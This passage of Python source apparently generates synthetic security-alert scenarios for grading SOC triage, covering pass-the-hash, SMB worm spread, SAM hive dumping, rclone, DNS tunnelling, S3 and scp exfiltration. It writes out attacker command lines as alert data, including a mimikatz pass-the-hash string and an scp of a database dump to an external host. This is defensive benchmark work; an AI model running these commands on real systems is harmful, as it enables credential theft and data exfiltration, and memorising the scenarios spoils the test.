        f"At {s.t0:%H:%M}, {user.user} (no administrator of anything) opens RDP sessions from "
        f"{ws.hostname} to {', '.join(a.hostname for a in servers)} and enumerates the domain "
        "admins."
    )
    for k, server in enumerate(servers):
        s.alert(
            f"elastic-rdp-{server.hostname}", s.at(k * 6), rdp_logon_alert, server, user.user, ws
        )
    first = servers[0]
    when = s.at(0.3)
    s.alert("wazuh-rdp-logon", when, wazuh_rdp_logon, first, user.user, ws, level=6)
    last = servers[-1]
    net = winproc(
        "net.exe", 'net.exe group "Domain Admins" /domain', winproc("cmd.exe", "cmd.exe", EXPLORER)
    )
    minute = len(servers) * 6 + 2
    s.add(
        "edr-domain-admins",
        s.at(minute),
        edr_process(
            ("crowdstrike", "elastic", "wazuh", "defender")[i],
            s.at(minute),
            last,
            user=user.user,
            title="Enumeration of Domain Admins",
            description="net.exe listed the members of the Domain Admins group.",
            level=3,
            proc=net,
            techniques=["T1087.002"],
        ),
    )
    techniques = ["T1021.001", "T1078.002", "T1087.002"]
    if i == 3:
        nltest = winproc(
            "nltest.exe", f"nltest.exe /dclist:{DOMAIN}", winproc("cmd.exe", "cmd.exe", EXPLORER)
        )
        s.alert(
            "falcon-dc-discovery",
            s.at(minute + 1),
            crowdstrike_detection,
            last,
            user=user.user,
            name="Suspicious Activity",
            description="nltest listed the domain controllers.",
            level=3,
            proc=nltest,
            techniques=["T1018"],
        )
        techniques.append("T1018")
    s.case(
        "rdp-pivot",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=[f"elastic-rdp-{first.hostname}", "edr-domain-admins"],
        actions=[("disable_user", user.user), ("isolate_host", ws.hostname)],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["net.exe"]))


@template("lateral_movement", 4)
def pass_the_hash_dc(s: Story, i: int) -> None:
    admin = ADMINS[i % len(ADMINS)]
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    dc = asset(("DC-01", "DC-02")[i % 2])
    s.start(s.workday_time())
    s.title = f"Pass-the-hash with {admin.user}'s hash from {ws.hostname} to {dc.hostname}"
    s.description = (
        f"Malware on {ws.hostname} ({user.name}'s laptop) uses the NTLM hash of "
        f"{admin.user}, stolen earlier, to authenticate to {dc.hostname}"
        + (" and replicates directory secrets (DCSync)." if i in (0, 2) else ".")
    )
    techniques = ["T1550.002", "T1078.002"]
    if i == 3:
        tool = Proc(
            "C:\\Users\\Public\\m64.exe",
            f'm64.exe "sekurlsa::pth /user:{admin.user} '
            f'/domain:{NETBIOS.lower()} /ntlm:{s.hex(32)}" exit',
            s.sha256(),
            winproc("cmd.exe", "cmd.exe", EXPLORER),
        )
        s.alert(
            "falcon-pth-tool",
            s.at(-1),
            crowdstrike_detection,
            ws,
            user=user.user,
            name="Credential Theft",
            description="A process started another with a forged logon session from an NTLM "
            "hash (pass-the-hash).",
            level=5,
            proc=tool,
            techniques=["T1550.002"],
        )
    s.alert(
        "defender-pth",
        s.at(0),
        defender_alert,
        title="Suspected identity theft (pass-the-hash) (external ID 2017)",
        level=4,
        description=f"{admin.user}'s hash was used from {ws.hostname}, a device the account "
        "does not use.",
        category="LateralMovement",
        techniques=["T1550.002"],
        source="microsoftDefenderForIdentity",
        evidence=[dv_device(ws), dv_user(admin.user), dv_device(dc, roles=("attacked",))],
    )
    s.alert("wazuh-ntlm-dc", s.at(0.2), ntlm_logon, dc, admin.user, ws)
    if i in (0, 2):
        s.alert(
            "defender-dcsync",
            s.at(3),
            defender_alert,
            title="Suspected DCSync attack (replication of directory services) (external ID 2006)",
            level=4,
            description=f"{ws.hostname} requested directory replication as {admin.user}.",
            category="CredentialAccess",
            techniques=["T1003.006"],
            source="microsoftDefenderForIdentity",
            evidence=[dv_device(ws), dv_user(admin.user), dv_device(dc, roles=("attacked",))],
        )
        techniques.append("T1003.006")
    s.case(
        "pass-the-hash",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["defender-pth", "wazuh-ntlm-dc", *s.refs("defender-dcsync")],
        actions=[
            ("isolate_host", ws.hostname),
            ("reset_password", admin.user),
            ("revoke_sessions", admin.user),
        ],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", dc.hostname))


@template("lateral_movement", 3)
def admin_night_psexec(s: Story, i: int) -> None:
    admin = (PEOPLE["bob.nguyen"], PEOPLE["priya.shah"], PEOPLE["bob.nguyen"])[i]
    ws = laptop(admin)
    managed = [
        h
        for h in managed_by(admin)
        if h.startswith("SRV-") and asset(h).os == WIN_SERVER and not asset(h).crown_jewel
    ]
    first, second = (asset(h) for h in s.sample(managed, 2))
    s.difficulty = "hard"
    s.start(s.night_time())
    backdoor = s.pick(("support_tmp", "svc-monitor2", "adm_backup", "helpdesk01"))
    s.title = f"{admin.name}'s account runs PsExec on servers at {s.t0:%H:%M} on a {s.t0:%A}"
    s.description = (
        f"{admin.user} administers {first.hostname} and {second.hostname}, and PsExec from "
        f"{ws.hostname}, their own laptop, is how they work. But it is {s.t0:%A} "
        f"{s.t0:%H:%M}, no change is planned, and the sessions create a local account "
        f"'{backdoor}' and pack the file shares into a password-protected archive: the laptop "
        "is compromised."
    )
    s.alert("suricata-psexec-1", s.at(0), psexec_copy, ws, first)
    s.alert("defender-psexec", s.at(1), defender_psexec, first, ws, admin.user)
    when = s.at(2)
    s.alert(
        "wazuh-account-created",
        when,
        wazuh_alert,
        first,
        rule_id="60109",
        level=8,
        description="User account enabled or created",
        groups=["windows", "win_security", "adduser", "account_changed"],
        techniques=["T1136.001"],
        data=win_event(
            when,
            first,
            provider="Microsoft-Windows-Security-Auditing",
            event_id="4720",
            message="A user account was created.",
            eventdata={
                "targetUserName": backdoor,
                "targetDomainName": first.hostname,
                "subjectUserName": admin.user,
                "subjectDomainName": NETBIOS,
                "subjectUserSid": sid_of(admin.user),
            },
        ),
    )
    s.alert("suricata-psexec-2", s.at(9), psexec_copy, ws, second)
    s.alert(
        "wazuh-psexec-archive",
        s.at(10),
        psexesvc_shell,
        second,
        admin.user,
        f'cmd.exe /c "C:\\PerfLogs\\rar.exe a -hp{s.hex(8)} '
        f'C:\\PerfLogs\\{s.hex(4)}.rar D:\\Shares"',
    )
    s.case(
        "stolen-admin-psexec",
        s.refs(),
        "true_positive",
        techniques=["T1078.002", "T1021.002", "T1569.002", "T1136.001", "T1560.001"],
        evidence=["defender-psexec", "wazuh-account-created", "wazuh-psexec-archive"],
        actions=[("isolate_host", ws.hostname), ("disable_user", admin.user)],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["PSEXESVC.exe"]))


@template("lateral_movement", 3)
def smb_worm_spread(s: Story, i: int) -> None:
    patient_zero = s.pick(OFFICE_STAFF)
    source = laptop(patient_zero)
    targets = [laptop(p) for p in s.others(OFFICE_STAFF, patient_zero, count=3 + i % 2)]
    payload = s.sha256()
    name = s.pick(("mssecsvc.exe", "tasksche.exe", "winupd32.exe", "spoolsv64.exe"))
    s.start(s.workday_time())
    s.title = f"Worm spreads from {source.hostname} to {len(targets)} laptops over SMB"
    s.description = (
        f"{name} on {source.hostname} copies itself to the ADMIN$ share of "
        f"{len(targets)} other laptops (local admin rights reused across the fleet) and starts "
        "there as a service."
    )
    copier = winproc(
        "cmd.exe",
        f"cmd.exe /c copy C:\\Windows\\{name} \\\\{targets[0].hostname}"
        f"\\ADMIN$ & sc \\\\{targets[0].hostname} create {name[:-4]} binPath= "
        f"C:\\Windows\\{name}",
        Proc(f"C:\\Windows\\{name}", name, payload, SERVICES),
    )
    s.alert(
        "falcon-spreader",
        s.at(0),
        crowdstrike_detection,
        source,
        user=patient_zero.user,
        name="Lateral Tool Transfer",
        description="A process copied an executable to remote admin shares and created "
        "services that run it.",
        level=5,
        proc=copier,
        techniques=["T1570", "T1569.002"],
    )
    for k, target in enumerate(targets):
        when = s.at(1 + k)
        s.alert(
            f"suricata-smb-{target.hostname}",
            when,
            suricata_alert,
            src=source.ips[0],
            dst=target.ips[0],
            dport=445,
            sid=2025709,
            signature="ET POLICY SMB2 NT Create AndX Request For an Executable File",
            category="Potential Corporate Privacy Violation",
            priority=2,
            techniques=["T1570"],
            app_proto="smb",
            extra={
                "smb": {
                    "command": "SMB2_COMMAND_CREATE",
                    "filename": name,
                    "share": f"\\\\{target.hostname}\\ADMIN$",
                }
            },
        )
        s.alert(
            f"falcon-malware-{target.hostname}",
            when + timedelta(seconds=20),
            falcon_ml_detection,
            target,
            user="SYSTEM",
            proc=Proc(
                f"C:\\Windows\\{name}", f"C:\\Windows\\{name} -m security", payload, SERVICES
            ),
            sha256=payload,
            level=5,
        )
    s.case(
        "smb-worm",
        s.refs(),
        "true_positive",
        techniques=["T1570", "T1021.002", "T1569.002"],
        evidence=["falcon-spreader", f"falcon-malware-{targets[0].hostname}"],
        actions=[
            ("block_hash", payload),
            ("isolate_host", source.hostname),
            *(("isolate_host", t.hostname) for t in targets),
        ],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", "SRV-DB-01"), ("block_hash", SIGNED["cmd.exe"]))


@template("lateral_movement", 3)
def rdp_among_admin_noise(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    target = asset(("SRV-APP-04", "SRV-FS-02", "SRV-APP-03")[i])
    s.difficulty = "hard"
    day = s.pick(WORKDAYS[3:])
    s.start(clock(day, 12, s.rng.randint(0, 50)))
    s.title = f"One RDP logon by {user.name} to {target.hostname} among two days of admin logons"
    s.description = (
        "For two days the administrators log on to the servers they manage, each logon a low "
        f"alert. At lunchtime, {user.user}, who manages nothing, logs on to {target.hostname} "
        "from their laptop and saves the SAM registry hive."
    )
    noise: list[str] = []
    for admin in ADMINS[:2]:
        mine = [h for h in managed_by(admin) if asset(h).os == WIN_SERVER]
        for day_offset in (-1, 0):
            for _ in range(s.rng.randint(3, 5)):
                when = clock(
                    day + timedelta(days=day_offset), s.rng.randint(8, 16), s.rng.randint(0, 59)
                ) + timedelta(seconds=s.rng.randint(0, 59))
                if day_offset == 0 and abs((when - s.t0).total_seconds()) < 3 * 3600:
                    continue  # keep the admins' logons hours away from the intrusion
                server = asset(s.pick(mine))
                noise.append(
                    s.alert(
                        f"admin-logon-{admin.user}-{len(noise) + 1:02d}",
                        when,
                        rdp_logon_alert,
                        server,
                        admin.user,
                        laptop(admin),
                    )
                )
    s.alert("elastic-rdp-intruder", s.at(0), rdp_logon_alert, target, user.user, ws)
    save = winproc(
        "reg.exe",
        f"reg.exe save HKLM\\SAM C:\\Users\\{user.user}\\AppData\\Local\\Temp\\{s.hex(4)}.hiv",
        winproc("cmd.exe", "cmd.exe", EXPLORER),
    )
    s.alert(
        "falcon-sam-dump",
        s.at(6),
        crowdstrike_detection,
        target,
        user=user.user,
        name="Credential Dumping",
        description="reg.exe saved the SAM hive, which holds local password hashes.",
        level=4,
        proc=save,
        techniques=["T1003.002"],
    )
    s.case(
        "intrusion",
        ["elastic-rdp-intruder", "falcon-sam-dump"],
        "true_positive",
        techniques=["T1021.001", "T1078.002", "T1003.002"],
        evidence=["elastic-rdp-intruder", "falcon-sam-dump"],
        actions=[
            ("disable_user", user.user),
            ("isolate_host", ws.hostname),
            ("isolate_host", target.hostname),
        ],
    )
    s.case("admin-logons", noise, "benign_positive", evidence=noise[:1])
    forbid_defaults(s)
    s.forbid(*(("disable_user", a.user) for a in ADMINS[:2]), ("block_hash", SIGNED["reg.exe"]))


# ============================================================================================
# data_exfiltration
# ============================================================================================


def http_upload(
    at: datetime,
    src: Asset,
    ip: str,
    host: str | None,
    size: int,
    *,
    signature: str,
    sid: int,
    priority: int,
    techniques: Sequence[str] = (),
) -> Record:
    """Suricata: an HTTP(S) POST of ``size`` bytes from ``src``."""
    return suricata_alert(
        at,
        src=src.ips[0],
        dst=ip,
        dport=443 if host is None else 80,
        sid=sid,
        signature=signature,
        category="Potential Corporate Privacy Violation",
        priority=priority,
        techniques=techniques,
        app_proto="http",
        extra={
            "http": {
                "hostname": host or ip,
                "url": f"/api/v2/sync?part={size % 97}",
                "http_user_agent": BROWSER_UA,
                "http_content_type": "application/octet-stream",
                "http_method": "POST",
                "protocol": "HTTP/1.1",
                "status": 200,
                "length": 0,
                "request_headers": [{"name": "Content-Length", "value": str(size)}],
            },
            "flow": {
                "pkts_toserver": size // 1400 + 4,
                "pkts_toclient": size // 40000 + 3,
                "bytes_toserver": size + 1200,
                "bytes_toclient": 3188,
                "start": eve_time(at - timedelta(seconds=max(2, size // 10**6))),
            },
        },
    )


@template("data_exfiltration", 4)
def c2_bulk_upload(s: Story, i: int) -> None:
    server = asset(s.pick(FILE_SERVERS + APP_SERVERS))
    operator = s.pick(OFFICE_STAFF)
    if i == 0:
        ip, domain = C2_LOADER_IP, C2_LOADER_DOMAIN
    else:
        ip, domain = s.ext_ip(), s.domain()
    if i == 1:
        s.intel(domain, "domain", "Exfiltration endpoint of an extortion group", 80)
        s.intel(ip, "ip", f"Hosts {domain}", 75)
    known = i <= 1
    size = s.rng.randint(800, 2400) * 10**6
    archive = f"C:\\PerfLogs\\{s.hex(6)}.rar"
    s.start(s.pick([s.night_time(), s.evening_time()]))
    s.title = f"{size // 10**9 or 1} GB archive uploaded from {server.hostname} to {domain}"
    s.description = (
        f"With {operator.user}'s stolen credentials an intruder packs data on {server.hostname} "
        f"into a password-protected RAR archive and posts it, {size / 10**9:.1f} GB, to "
        f"{domain} ({ip})" + (", a destination threat intelligence knows." if known else ".")
    )
    rar = Proc(
        "C:\\PerfLogs\\rar.exe",
        f"C:\\PerfLogs\\rar.exe a -m5 -hp{s.hex(10)} {archive} D:\\Shares\\*",
        s.sha256(),
        winproc("cmd.exe", "cmd.exe", SERVICES),
    )
    s.add(
        "edr-archive",
        s.at(0),
        edr_process(
            ("crowdstrike", "elastic", "wazuh", "crowdstrike")[i],
            s.at(0),
            server,
            user=operator.user,
            title="Data archived with a password before transfer",
            description="An archiver packed many files from a share into an encrypted archive.",
            level=3,
            proc=rar,
            techniques=["T1560.001"],
        ),
    )
    spaced = domain.replace(".", " .", 1)
    s.alert(
        "suricata-upload",
        s.at(25),
        http_upload,
        server,
        ip,
        domain,
        size,
        signature=f"ET POLICY Large HTTP POST to Suspicious Domain ({spaced})"
        if known
        else "ET POLICY Large HTTP POST to a rare external destination (possible exfiltration)",
        sid=2061190 if known else 2061194,
        priority=1,
        techniques=["T1041"],
    )
    if i % 2 == 0:
        s.alert(
            "elastic-egress",
            s.at(40),
            elastic_alert,
            rule="Unusual Network Egress Volume from a Server",
            level=3,
            techniques=["T1041"],
            rule_type="machine_learning",
            description="A server sent far more data to one external destination than it ever has.",
            host=server,
            reason=f"{server.hostname} sent {size / 10**9:.1f} GB to {ip}.",
            source={"ip": server.ips[0]},
            destination={"ip": ip, "port": 80, "domain": domain},
            event={"category": ["network"], "type": ["connection"]},
        )
    s.case(
        "exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1560.001", "T1041"],
        evidence=["edr-archive", "suricata-upload"],
        actions=[("block_ip", ip), ("block_domain", domain), ("isolate_host", server.hostname)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS), ("isolate_host", "SRV-DB-01"))


@template("data_exfiltration", 4)
def rclone_cloud_upload(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    share_server = asset(s.pick(FILE_SERVERS))
    share = s.pick(("Finance$", "Operations$", "HR$", "Projects$"))
    service = s.pick(("filedrop-cloud", "megasync-storage", "boxvault-share", "cloudstash"))
    domain = f"upload.{service}.example"
    ip = s.ext_ip()
    renamed = i == 2
    image = (
        "C:\\ProgramData\\svchost32.exe"
        if renamed
        else f"C:\\Users\\{user.user}\\Downloads\\rclone.exe"
    )
    s.start(s.workday_time(11, 17))
    s.title = f"rclone copies {share_server.hostname}\\{share} to {service}"
    s.description = (
        f"An intruder on {ws.hostname} runs rclone"
        + (" renamed to svchost32.exe" if renamed else "")
        + f" to copy \\\\{share_server.hostname}\\{share} to a {service} account."
    )
    rclone = Proc(
        image,
        f'"{image}" copy \\\\{share_server.hostname}\\{share} remote:bk '
        f"--transfers 16 --config C:\\Users\\Public\\rc.conf --no-check-certificate",
        s.sha256(),
        winproc("cmd.exe", "cmd.exe", EXPLORER),
    )
    s.alert(
        "elastic-rclone",
        s.at(0),
        elastic_alert,
        rule="Potential Data Exfiltration via Rclone",
        level=4,
        techniques=["T1567.002"],
        description="Identifies rclone (also when renamed, from its "
        "metadata) copying data to a remote storage provider.",
        host=ws,
        user=user.user,
        process=rclone,
        reason=f"process event with process {rclone.name} by {user.user} on {ws.hostname}.",
        event={"category": ["process"], "type": ["start"]},
    )
    s.alert(
        "suricata-storage",
        s.at(3),
        suricata_alert,
        src=ws.ips[0],
        dst=ip,
        dport=443,
        sid=2050118,
        signature=f"ET POLICY Observed File Sharing Service Domain ({domain}) in TLS SNI",
        category="Potential Corporate Privacy Violation",
        priority=3,
        app_proto="tls",
        techniques=["T1567.002"],
        extra={"tls": {"sni": domain, "version": "TLS 1.3"}},
    )
    if i % 2 == 0:
        s.alert(
            "defender-upload",
            s.at(20),
            defender_alert,
            title="Suspicious data upload to a cloud storage service",
            level=3,
            description=f"{rclone.name} uploaded a large volume of files to {service}.",
            category="Exfiltration",
            techniques=["T1567.002"],
            evidence=[
                dv_device(ws, users=[user.user]),
                dv_user(user.user),
                dv_process(rclone, user.user, s.at(20)),
                dv_url(f"https://{domain}/"),
                dv_ip(ip, roles=("destination",)),
            ],
        )
    s.case(
        "cloud-exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1039", "T1567.002"],
        evidence=["elastic-rclone", "suricata-storage"],
        actions=[("isolate_host", ws.hostname), ("block_domain", domain)],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", share_server.hostname))


@template("data_exfiltration", 4)
def dns_tunnel(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    domain = s.domain()
    tool = s.sha256()
    queries = s.rng.randint(3, 5)
    s.start(s.workday_time())
    s.title = f"DNS tunnel from {ws.hostname} to {domain}"
    s.description = (
        f"A tool on {ws.hostname} encodes stolen data in long TXT queries for {domain}, sent "
        "through the internal resolver."
    )
    for k in range(1, queries + 1):
        label = s.hex(56)
        when = s.at(k * 2)
        s.alert(
            f"suricata-long-query-{k}",
            when,
            suricata_alert,
            src=ws.ips[0],
            dst=DNS_RESOLVER,
            dport=53,
            proto="UDP",
            sid=2027863,
            signature="ET POLICY DNS Query with Unusually Long Subdomain (possible DNS tunneling)",
            category="Potentially Bad Traffic",
            priority=2,
            techniques=["T1071.004", "T1048.003"],
            app_proto="dns",
            extra={
                "dns": {
                    "type": "query",
                    "id": s.rng.randint(1, 65535),
                    "rrname": f"{label}.{s.hex(8)}.{domain}",
                    "rrtype": "TXT",
                }
            },
        )
    proc = Proc(
        "C:\\ProgramData\\Intel\\igfxdns.exe",
        f"C:\\ProgramData\\Intel\\igfxdns.exe "
        f"--dns server={DNS_RESOLVER},domain={domain} --secret {s.hex(16)}",
        tool,
        winproc("cmd.exe", "cmd.exe", EXPLORER),
    )
    s.add(
        "edr-tunnel-tool",
        s.at(1),
        edr_process(
            ("crowdstrike", "defender", "elastic", "crowdstrike")[i],
            s.at(1),
            ws,
            user=user.user,
            title="DNS tunneling tool",
            description="A process sends large volumes of TXT queries "
            "with encoded labels, which tunnels data over DNS.",
            level=4,
            proc=proc,
            techniques=["T1071.004"],
            destination=(DNS_RESOLVER, 53, domain),
        ),
    )
    s.case(
        "dns-tunnel",
        s.refs(),
        "true_positive",
        techniques=["T1071.004", "T1048.003"],
        evidence=["edr-tunnel-tool", "suricata-long-query-1"],
        actions=[("block_domain", domain), ("isolate_host", ws.hostname), ("block_hash", tool)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", DNS_RESOLVER))


@template("data_exfiltration", 4)
def low_and_slow_upload(s: Story, i: int) -> None:
    server = asset(("SRV-DB-02", "SRV-APP-04", "SRV-DB-02", "SRV-FS-02")[i])
    linux = server.os == UBUNTU
    ip = s.ext_ip()
    s.difficulty = "hard"
    day = s.pick(WORKDAYS[:10])
    s.start(clock(day, s.rng.randint(0, 5), s.rng.randint(0, 59)))
    s.title = f"Low-and-slow upload from {server.hostname} to {ip} over four days"
    s.description = (
        f"An implant on {server.hostname} posts a few hundred kilobytes to {ip} every few "
        "hours, for days. Each upload is a low-severity policy alert that soon looks routine; "
        "together they are the database leaving."
    )
    minute, k = 0, 0
    uploads = []
    while minute < 4 * 24 * 60:
        k += 1
        when = s.at(minute)
        uploads.append(
            s.alert(
                f"suricata-upload-{k:02d}",
                when,
                http_upload,
                server,
                ip,
                None,
                s.rng.randint(180, 900) * 1024,
                signature="ET INFO HTTP POST Request to a Raw IP Address",
                sid=2031502,
                priority=3,
            )
        )
        minute += s.rng.randint(3 * 60, 6 * 60)
    evidence = uploads[:1]
    if linux:
        script = Proc(
            "/usr/bin/python3.12",
            "python3 /var/tmp/.cache/sync.py --interval 4h",
            SIGNED["curl"],
            Proc("/usr/sbin/cron", "/usr/sbin/CRON -f"),
        )
        when = s.at(minute - 60)
        s.alert(
            "elastic-outbound-process",
            when,
            elastic_alert,
            rule="Unusual Process Making Outbound Connections",
            level=2,
            techniques=["T1029"],
            rule_type="machine_learning",
            description="A process that rarely talks to the internet made outbound connections.",
            host=server,
            user="postgres" if i == 0 else "mysql",
            process=script,
            reason=f"python3 on {server.hostname} connected to {ip}:443.",
            destination={"ip": ip, "port": 443},
            event={"category": ["network"]},
        )
        evidence.append("elastic-outbound-process")
    s.case(
        "slow-exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1029", "T1030", "T1041"],
        evidence=evidence,
        actions=[("block_ip", ip), ("isolate_host", server.hostname)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS), ("isolate_host", "SRV-DB-01"))


_BUCKETS = (
    "northwind-finance-reports",
    "northwind-customer-exports",
    "northwind-hr-archive",
    "northwind-ops-data",
)


@template("data_exfiltration", 4)
def s3_stolen_key(s: Story, i: int) -> None:
    user = s.pick(
        [PEOPLE["alice.martin"], PEOPLE["wei.zhang"], PEOPLE["xavier.lopez"], PEOPLE["yara.ali"]]
    )
    bucket = _BUCKETS[i]
    key = "AKIA" + s.hex(16).upper()
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    objects = s.rng.randint(120, 480)
    s.start(s.pick([s.night_time(), s.evening_time(), s.workday_time()]))
    s.title = f"{user.user}'s AWS key lists and downloads {bucket} from {country}"
    s.description = (
        f"{user.name}'s access key {key}, leaked from a laptop backup, is used from {attacker} "
        f"({country_name(country)}) to list and read {objects} objects of {bucket}."
    )
    resource = gd_access_key(user.user, key_id=key, buckets=[bucket])
    if i == 3:
        tor = s.ext_ip()
        s.alert(
            "guardduty-tor-caller",
            s.at(-5),
            guardduty_finding,
            finding_type="UnauthorizedAccess:IAMUser/TorIPCaller",
            severity=5.0,
            title=f"A Tor exit node is calling APIs with the credentials of {user.user}.",
            description=f"ListBuckets was invoked from a Tor exit node with {user.user}'s key.",
            resource=gd_access_key(user.user, key_id=key),
            action=gd_api("ListBuckets", "s3.amazonaws.com", tor, "NL"),
        )
    s.alert(
        "guardduty-discovery",
        s.at(0),
        guardduty_finding,
        finding_type="Discovery:S3/AnomalousBehavior",
        severity=2.0,
        title=f"Unusual S3 API invocation by user {user.user}.",
        description=f"An API commonly used to discover S3 objects was invoked by IAM user "
        f"{user.user} in an anomalous way from {attacker}.",
        resource=resource,
        action=gd_api("ListObjects", "s3.amazonaws.com", attacker, country),
        count=14,
    )
    s.alert(
        "guardduty-exfiltration",
        s.at(15),
        guardduty_finding,
        finding_type="Exfiltration:S3/AnomalousBehavior",
        severity=8.0,
        title=f"Anomalous S3 data read by user {user.user}.",
        description=f"An API commonly used to read S3 objects was invoked by IAM user "
        f"{user.user} in an anomalous way from {attacker}; {objects} objects were read from "
        f"{bucket}.",
        resource=resource,
        action=gd_api("GetObject", "s3.amazonaws.com", attacker, country),
        count=objects,
        first_seen=s.at(2),
    )
    s.case(
        "s3-exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1078.004", "T1619", "T1530"],
        evidence=["guardduty-exfiltration", "guardduty-discovery"],
        actions=[("revoke_sessions", user.user), ("block_ip", attacker)],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", "i-0a1b2c3d4e5f60718"))


@template("data_exfiltration", 4)
def departing_insider(s: Story, i: int) -> None:
    user = s.pick([p for p in OFFICE_STAFF if p.department in ("Sales", "Operations", "Finance")])
    ws = laptop(user)
    webmail = s.pick(("mailbox-personal", "webpost", "freemail-box"))
    personal = f"{user.first.lower()}{s.rng.randint(70, 99)}@{webmail}.example"
    storage = s.pick(("personal-drive", "mycloudspace", "filebox-home")) + ".example"
    files = s.rng.randint(300, 2200)
    s.start(s.workday_time(15, 17))
    s.title = f"{user.name}, leaving Northwind, takes customer data to personal storage"
    s.description = (
        f"{user.name} has handed in their notice. In their last week they download {files} "
        f"files labelled Confidential from SharePoint, upload them to {storage} and mail a "
        f"customer list to {personal}."
    )
    site = f"https://{DOMAIN.split('.')[0]}.sharepoint.example/sites/{user.department}"
    s.alert(
        "dlp-bulk-download",
        s.at(0),
        ocsf_finding,
        product=DLP,
        title=f"Bulk download of Confidential files by {user.user}",
        desc=f"{files} files labelled Confidential were downloaded from {site} within an hour.",
        types=["Data Loss Prevention", "Bulk Download"],
        analytic=("LH-DLP-0102", "Bulk download of labelled files"),
        techniques=["T1213.002"],
        level=3,
        message=f"{files} Confidential files downloaded",
        device=ws,
        user=user.user,
        evidences=[{"url": {"url_string": site, "hostname": site.split("/")[2]}}],
        observables=[
            ("actor.user.name", 4, f"{user.user}@{DOMAIN}"),
            ("device.hostname", 1, ws.hostname),
        ],
    )
    s.alert(
        "casb-personal-upload",
        s.at(50),
        ocsf_finding,
        product=CASB,
        title="Upload of corporate files to a personal cloud account",
        desc=f"{user.user} uploaded {files - s.rng.randint(0, 100)} files to an unmanaged "
        f"{storage} account.",
        types=["Data Exfiltration", "Shadow IT"],
        analytic=("SKY-EXF-0009", "Upload to personal cloud storage"),
        techniques=["T1567.002"],
        level=4,
        message=f"Upload to {storage}",
        device=ws,
        user=user.user,
        evidences=[{"dst_endpoint": {"domain": storage, "port": 443}}],
        observables=[("dst_endpoint.domain", 99, storage)],
    )
    if i != 1:
        s.alert(
            "dlp-personal-mail",
            s.at(80),
            ocsf_finding,
            product=DLP,
            title="Customer list mailed to a personal address",
            desc=f"A message from {user.email} to {personal} carries a spreadsheet with "
            "customer contact data.",
            types=["Data Loss Prevention", "Email"],
            analytic=("LH-DLP-0140", "Sensitive attachment to personal address"),
            techniques=["T1048"],
            level=3,
            message="Sensitive attachment sent externally",
            user=user.user,
            evidences=[
                {
                    "email": {
                        "from": user.email,
                        "to": [personal],
                        "subject": f"{user.department} contacts",
                    }
                }
            ],
            observables=[("email.to", 5, personal)],
        )
    s.case(
        "insider-exfiltration",
        s.refs(),
        "true_positive",
        techniques=["T1213.002", "T1567.002", "T1048"],
        evidence=["dlp-bulk-download", "casb-personal-upload"],
        actions=[("revoke_sessions", user.user)],
    )
    forbid_defaults(s)
    s.forbid(("quarantine_email", user.email), ("block_domain", site.split("/")[2]))


@template("data_exfiltration", 3)
def database_dump_scp(s: Story, i: int) -> None:
    db = asset("SRV-DB-01")
    account = ("ops-maint", "reporting", "backup2")[i]
    dest = s.ext_ip()
    dump = f"/var/tmp/.{s.hex(6)}.sql.gz"
    s.start(s.pick([s.night_time(), s.evening_time()]))
    s.title = f"Finance database dumped on {db.hostname} and copied to {dest} over SCP"
    s.description = (
        f"With the stolen password of the local account '{account}', an intruder dumps the "
        f"finance database on {db.hostname}, the crown jewel, and copies it with scp to {dest}. "
        "Containment of the crown jewel itself is a human decision."
    )
    when = s.at(0)
    s.alert(
        "wazuh-mysqldump",
        when,
        wazuh_alert,
        db,
        rule_id="100711",
        level=10,
        description="Audit: mysqldump executed by an account that is not the backup service",
        groups=["audit", "audit_command"],
        techniques=["T1005"],
        data={
            "srcuser": account,
            "audit": {
                "type": "EXECVE",
                "exe": "/usr/bin/mysqldump",
                "command": "mysqldump",
                "execve": {
                    "a0": "mysqldump",
                    "a1": "--all-databases",
                    "a2": f"--result-file={dump}",
                },
                "uid": "1004",
                "auid": "1004",
                "key": "db_dump",
            },
        },
        full_log=f'type=EXECVE msg=audit({when.timestamp():.3f}:8812): argc=3 a0="mysqldump" '
        f'a1="--all-databases" a2="--result-file={dump}"',
        location="/var/log/audit/audit.log",
        decoder={"parent": "auditd", "name": "auditd"},
    )
    when = s.at(12)
    s.alert(
        "wazuh-scp-out",
        when,
        wazuh_alert,
        db,
        rule_id="100714",
        level=12,
        description="Audit: scp copied a file to an external host",
        groups=["audit", "audit_command", "exfiltration"],
        techniques=["T1048.002"],
        data={
            "srcuser": account,
            "dstip": dest,
            "dstport": "22",
            "audit": {
                "type": "EXECVE",
                "exe": "/usr/bin/scp",
                "command": "scp",
                "execve": {"a0": "scp", "a1": dump, "a2": f"u@{dest}:/d/"},
                "uid": "1004",
                "auid": "1004",
                "key": "remote_copy",
            },
        },
        full_log=f'type=EXECVE msg=audit({when.timestamp():.3f}:8840): argc=3 a0="scp" '
        f'a1="{dump}" a2="u@{dest}:/d/"',
        location="/var/log/audit/audit.log",
        decoder={"parent": "auditd", "name": "auditd"},
    )
    s.alert(
        "suricata-ssh-out",
        s.at(12.5),
        suricata_alert,
        src=db.ips[0],
        dst=dest,
        dport=22,
        sid=2003068,
        signature="ET POLICY SSH session from the database subnet to an external host",
        category="Potential Corporate Privacy Violation",
        priority=2,
        techniques=["T1048.002"],
        app_proto="ssh",
    )
    s.case(
        "database-theft",
        s.refs(),
        "true_positive",
